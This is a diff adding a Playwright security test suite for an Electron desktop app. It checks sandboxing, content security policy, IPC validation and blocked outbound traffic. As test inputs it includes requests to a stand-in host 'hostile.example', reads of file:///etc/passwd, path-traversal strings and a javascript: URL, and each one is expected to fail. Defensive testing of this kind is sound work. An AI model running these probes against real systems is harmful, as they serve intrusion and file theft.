@@ -1,0 +1,413 @@
+import { spawn } from 'node:child_process'
+import { once } from 'node:events'
+import { existsSync, mkdtempSync, readdirSync, readFileSync } from 'node:fs'
+import { tmpdir } from 'node:os'
+import { join, relative } from 'node:path'
+import { expect, test } from '@playwright/test'
+import type {} from '../../renderer/data/app-api.ts'
+import { ROOT } from '../../build/setup/paths.mjs'
+import { contract } from '../../shared/ipc/contract.ts'
+import { commandLine, startLaptop, type Laptop } from './laptop.ts'
+import { payloads } from './payloads.ts'
+
+/** A host that exists nowhere: a request that gets through is seen in the network log, and reaches nobody. */
+const EVIL = 'https://hostile.example'
+const CHANNELS = Object.entries(contract).flatMap(([namespace, methods]) =>
+  Object.keys(methods).map((method) => `${namespace}.${method}`),
+)
+
+let laptop: Laptop
+let netLog = ''
+
+test.describe.configure({ mode: 'default' })
+
+test.beforeAll(async () => {
+  netLog = join(mkdtempSync(join(tmpdir(), 'wederzijds-netlog-')), 'net.json')
+  laptop = await startLaptop({ args: [`--log-net-log=${netLog}`] })
+})
+
+test('the real web preferences', async () => {
+  const preferences = await laptop.app.evaluate(({ BrowserWindow }) => {
+    const contents = BrowserWindow.getAllWindows()[0]?.webContents as unknown as {
+      getLastWebPreferences: () => Record<string, unknown>
+    }
+    return contents.getLastWebPreferences()
+  })
+  expect(preferences).toMatchObject({
+    sandbox: true,
+    contextIsolation: true,
+    nodeIntegration: false,
+    webviewTag: false,
+    webSecurity: true,
+  })
+  for (const name of [
+    'nodeIntegrationInWorker',
+    'nodeIntegrationInSubFrames',
+    'allowRunningInsecureContent',
+  ]) {
+    expect(preferences[name], name).not.toBe(true)
+  }
+  for (const name of ['experimentalFeatures', 'enableBlinkFeatures'])
+    expect(preferences[name], name).toBeFalsy()
+})
+
+test('the page has no Node and only the contract', async () => {
+  const seen = await laptop.page.evaluate(() => {
+    const names = ['require', 'process', 'module', 'Buffer', 'electron', 'ipcRenderer']
+    const api = window.app as unknown as Record<string, object>
+    const methods = Object.entries(api).flatMap(([name, value]) =>
+      Object.keys(value).map((key) => `${name}.${key}`),
+    )
+    return { globals: names.filter((name) => name in window), methods }
+  })
+  expect(seen.globals).toEqual([])
+  expect(seen.methods.sort()).toEqual([...CHANNELS, 'app.onClosing'].sort())
+})
+
+test('script in HTML does not run, however it comes in', async () => {
+  const executed = await laptop.page.evaluate(async (all) => {
+    const hits: string[] = []
+    Object.assign(window, { hit: (name: string) => hits.push(name) })
+    const place = document.createElement('div')
+    document.body.append(place)
+    const ways: ((html: string) => unknown)[] = [
+      (html) => (place.innerHTML = html),
+      (html) => (place.outerHTML = html),
+      (html) => place.insertAdjacentHTML('beforeend', html),
+      (html) => place.append(document.createRange().createContextualFragment(html)),
+      (html) => place.append(...new DOMParser().parseFromString(html, 'text/html').body.childNodes),
+    ]
+    for (const html of all) {
+      for (const way of ways) {
+        try {
+          way(html)
+        } catch {
+          // Refused by Trusted Types: as good as cleaned.
+        }
+      }
+    }
+    for (const element of document.querySelectorAll<HTMLElement>('a, button, details, input')) element.click()
+    // Image errors, load events and timers have all had their turn after this.
+    await new Promise((resolve) => setTimeout(resolve, 300))
+    place.remove()
+    return hits
+  }, payloads)
+  expect(executed).toEqual([])
+})
+
+test('eval, new Function, string timers and injected scripts are refused', async () => {
+  const refused = await laptop.page.evaluate(async (evil) => {
+    // In a task of its own: what the test driver calls directly could be exempt from the policy.
+    await new Promise((resolve) => setTimeout(resolve, 0))
+    const attempts: Record<string, () => unknown> = {
+      eval: () => (0, eval)('1'),
+      Function: () => new Function('return 1')(),
+      worker: () => new Worker(`${evil}/worker.js`),
+      blobWorker: () => new Worker(URL.createObjectURL(new Blob(['1']))),
+      importScript: () => {
+        const script = document.createElement('script')
+        script.src = `${evil}/script.js`
+      },
+      inlineScript: () => {
+        const script = document.createElement('script')
+        const hits: string[] = []
+        Object.assign(window, { hit: (name: string) => hits.push(name) })
+        script.text = 'window.hit("inline")'
+        document.body.append(script)
+        if (hits.length === 0) throw new Error('not run')
+      },
+    }
+    return Object.entries(attempts).flatMap(([name, attempt]) => {
+      try {
+        attempt()
+        return []
+      } catch {
+        return [name]
+      }
+    })
+  }, EVIL)
+  expect(refused).toEqual(['eval', 'Function', 'worker', 'blobWorker', 'importScript', 'inlineScript'])
+})
+
+test('nothing goes out: no request, no socket, no window, no navigation, no file', async () => {
+  const { page } = laptop
+  const before = page.url()
+  const outcome = await page.evaluate(async (evil) => {
+    const failed = (promise: Promise<unknown>) =>
+      promise.then(
+        () => false,
+        () => true,
+      )
+    const closes = (address: string) =>
+      new Promise((resolve) => {
+        try {
+          const socket = new WebSocket(address)
+          socket.onerror = () => resolve(true)
+          socket.onopen = () => resolve(false)
+        } catch {
+          resolve(true)
+        }
+      })
+    const image = (address: string) =>
+      new Promise((resolve) => {
+        const element = new Image()
+        element.onerror = () => resolve(true)
+        element.onload = () => resolve(false)
+        element.src = address
+      })
+    return {
+      fetch: await failed(fetch(evil)),
+      fetchLoopback: await failed(fetch('http://127.0.0.1:9/')),
+      file: await failed(fetch('file:///etc/passwd')),
+      imported: await failed(import(/* @vite-ignore */ `${evil}/module.js`)),
+      socket: await closes('wss://hostile.example'),
+      image: await image(`${evil}/pixel.png`),
+      fileImage: await image('file:///etc/passwd'),
+      opened: window.open(evil),
+      openedFile: window.open('file:///etc/passwd'),
+      openedSelf: window.open(location.href),
+    }
+  }, EVIL)
+  expect(outcome).toEqual({
+    fetch: true,
+    fetchLoopback: true,
+    file: true,
+    imported: true,
+    socket: true,
+    image: true,
+    fileImage: true,
+    opened: null,
+    openedFile: null,
+    openedSelf: null,
+  })
+
+  for (const target of [EVIL, 'file:///etc/passwd', 'data:text/html,hallo', 'app://elsewhere/index.html']) {
+    await page.evaluate((address) => {
+      const link = document.createElement('a')
+      link.href = address
+      document.body.append(link)
+      link.click()
+      link.remove()
+      location.href = address
+    }, target)
+    expect(await page.evaluate(() => location.href)).toBe(before)
+  }
+  expect(laptop.app.windows()).toHaveLength(1)
+})
+
+test('a frame and a webview stay empty', async () => {
+  const inner = await laptop.page.evaluate(async (evil) => {
+    const frame = document.createElement('iframe')
+    frame.src = evil
+    document.body.append(frame)
+    const own = document.createElement('iframe')
+    document.body.append(own)
+    document.body.append(document.createElement('webview'))
+    await new Promise((resolve) => setTimeout(resolve, 100))
+    const has = own.contentWindow !== null && 'app' in own.contentWindow
+    frame.remove()
+    own.remove()
+    return has
+  }, EVIL)
+  expect(inner).toBe(false)
+  expect(await laptop.app.evaluate(({ webContents }) => webContents.getAllWebContents().length)).toBe(1)
+})
+
+test('addresses outside the window folder do not exist', async () => {
+  const statuses = await laptop.page.evaluate(async () => {
+    const paths = [
+      '/../../package.json',
+      '/../main/index.js',
+      '/%2e%2e/main/index.js',
+      '/..%2fmain%2findex.js',
+      '/..%5cmain%5cindex.js',
+      '/assets/..%2f..%2fmain%2findex.js',
+      '//etc/passwd',
+      '/%00',
+      '/%',
+      '/',
+      '/assets',
+    ]
+    return Promise.all(paths.map(async (path) => [path, (await fetch(`app://wederzijds${path}`)).status]))
+  })
+  for (const [path, status] of statuses) expect(status, String(path)).toBe(404)
+})
+
+test('every permission is refused', async () => {
+  const answers = await laptop.page.evaluate(async () => {
+    const refused = (promise: Promise<unknown>) =>
+      promise.then(
+        () => false,
+        () => true,
+      )
+    const place = new Promise((resolve) =>
+      navigator.geolocation.getCurrentPosition(resolve, ({ code }) => resolve(code)),
+    )
+    return {
+      place: await place,
+      camera: await refused(navigator.mediaDevices.getUserMedia({ video: true })),
+      screen: await refused(navigator.mediaDevices.getDisplayMedia({ video: true })),
+      clipboard: await refused(navigator.clipboard.readText()),
+      notifications: await Notification.requestPermission(),
+    }
+  })
+  expect(answers).toEqual({ place: 1, camera: true, screen: true, clipboard: true, notifications: 'denied' })
+})
+
+test('the policy goes with every response, refusals too', async () => {
+  const root = join(ROOT, 'out', 'renderer')
+  const files = readdirSync(root, { recursive: true, withFileTypes: true })
+    .filter((entry) => entry.isFile())
+    .map((entry) => relative(root, join(entry.parentPath, entry.name)))
+  const addresses = [...files, 'nowhere.js', '..%2fmain%2findex.js'].map((path) => `app://wederzijds/${path}`)
+  const responses = await laptop.app.evaluate(
+    ({ session }, all) =>
+      Promise.all(
+        all.map(async (address) => {
+          const { status, headers } = await session.defaultSession.fetch(address)
+          return { address, status, policy: headers.get('content-security-policy') ?? '' }
+        }),
+      ),
+    [...addresses, 'app://elsewhere/index.html'],
+  )
+  expect(responses.filter(({ status }) => status === 200).length).toBeGreaterThan(1)
+  expect(responses.filter(({ status }) => status !== 200).map(({ status }) => status)).toEqual([
+    404, 404, 404,
+  ])
+  for (const { address, policy } of responses) {
+    expect(policy, address).toContain("default-src 'none'; script-src 'self';")
+    expect(policy, address).toContain("require-trusted-types-for 'script'; trusted-types default dompurify")
+    expect(policy, address).not.toContain('unsafe')
+  }
+})
+
+test('every channel refuses a malformed call', async () => {
+  const registered = await laptop.app.evaluate(({ ipcMain }) => {
+    const { _invokeHandlers } = ipcMain as unknown as { _invokeHandlers: Map<string, unknown> }
+    return [..._invokeHandlers.keys()]
+  })
+  expect(registered.sort()).toEqual([...CHANNELS].sort())
+
+  const accepted = await laptop.page.evaluate(async () => {
+    const junk = [
+      null,
+      0,
+      'x',
+      [],
+      { workspace: '../../..' },
+      { name: '../x', value: 1 },
+      { url: 1 },
+      new Uint8Array(9),
+    ]
+    const api = window.app as unknown as Record<string, Record<string, (input: unknown) => Promise<unknown>>>
+    const wrong: string[] = []
+    for (const [namespace, methods] of Object.entries(api)) {
+      for (const [method, call] of Object.entries(methods)) {
+        if (method === 'onClosing') continue
+        for (const input of junk) {
+          const message = await call(input).then(
+            () => 'accepted',
+            (error: unknown) => String(error),
+          )
+          if (!message.includes('refused input')) wrong.push(`${namespace}.${method}: ${message}`)
+        }
+      }
+    }
+    return wrong
+  })
+  expect(accepted).toEqual([])
+})
+
+test('every channel refuses a foreign sender', async () => {
+  const preload = join(ROOT, 'out', 'preload', 'index.cjs')
+  const heard = await laptop.app.evaluate(
+    async ({ BrowserWindow }, { preload, channels }) => {
+      // The worst case: a page that is not ours has our preload.
+      const foreign = new BrowserWindow({ show: false, webPreferences: { preload, sandbox: true } })
+      await foreign.loadURL('about:blank')
+      const calls = channels.map((channel) => {
+        const [namespace = '', method = ''] = channel.split('.')
+        return `window.app.${namespace}.${method}().then(() => 'accepted', (error) => String(error))`
+      })
+      const answers = (await foreign.webContents.executeJavaScript(
+        `Promise.all([${calls.join(',')}])`,
+      )) as string[]
+      foreign.destroy()
+      return answers
+    },
+    { preload, channels: CHANNELS },
+  )
+  expect(heard).toHaveLength(CHANNELS.length)
+  for (const answer of heard) expect(answer).toContain('refused sender')
+
+  // Frames inside our page, and our path on another host.
+  const frames = await laptop.app.evaluate(async ({ ipcMain, BrowserWindow }) => {
+    type Handler = (event: unknown, input: unknown) => Promise<unknown>
+    const { _invokeHandlers } = ipcMain as unknown as { _invokeHandlers: Map<string, Handler> }
+    const contents = BrowserWindow.getAllWindows()[0]?.webContents
+    const url = contents?.getURL() ?? ''
+    const senders = [
+      { sender: contents, senderFrame: null },
+      { sender: contents, senderFrame: { url, parent: {} } },
+      { sender: contents, senderFrame: { url, parent: null } },
+      { sender: contents, senderFrame: { url: url.replace('wederzijds', 'elsewhere'), parent: null } },
+    ]
+    const handler = _invokeHandlers.get('app.info')
+    return Promise.all(
+      senders.map(async (event) =>
+        handler?.(event, undefined).then(
+          () => 'accepted',
+          (error: unknown) => String(error),
+        ),
+      ),
+    )
+  })
+  for (const answer of frames) expect(answer).toContain('refused sender')
+})
+
+test('links outside the list are not opened', async () => {
+  const answers = await laptop.page.evaluate(() =>
+    Promise.all(
+      [
+        'https://hostile.example',
+        'http://www.kvk.nl',
+        'https://www.kvk.nl.hostile.example',
+        'https://user@www.kvk.nl',
+        'https://www.kvk.nl:8443',
+        'file:///etc/passwd',
+        'javascript:alert(1)',
+        'geen adres',
+      ].map((url) => window.app.shell.openExternal({ url })),
+    ),
+  )
+  for (const answer of answers) expect(answer).toEqual({ ok: false, reason: 'not-allowed' })
+})
+
+test('a second start ends, and the first window comes forward', async () => {
+  await laptop.app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows()[0]?.hide())
+  const { electron, args } = commandLine(laptop.userData)
+  const second = spawn(electron, args, { stdio: 'ignore' })
+  expect(await once(second, 'exit')).toEqual([0, null])
+  const isVisible = () =>
+    laptop.app.evaluate(({ BrowserWindow }) =>
+      BrowserWindow.getAllWindows().map((window) => window.isVisible()),
+    )
+  await expect.poll(isVisible).toEqual([true])
+})
+
+test('in all this time no request left, and no dictionary came', async () => {
+  const spelling = await laptop.app.evaluate(({ session }) => session.defaultSession.isSpellCheckerEnabled())
+  expect(spelling).toBe(false)
+  await laptop.close()
+  const dictionaries = join(laptop.userData, 'Dictionaries')
+  expect(existsSync(dictionaries) ? readdirSync(dictionaries) : []).toEqual([])
+  const log = readFileSync(netLog, 'utf8')
+  expect(log).toContain('"constants"')
+  const addresses = [...log.matchAll(/"(?:url|host|hostname)":"([^"]+)"/g)].map(
+    ([, address]) => address ?? '',
+  )
+  const outward = addresses.filter(
+    (address) => !/^(app|blob|data|devtools|chrome|ws:\/\/127\.0\.0\.1)/.test(address),
+  )
+  expect(outward).toEqual([])
+})
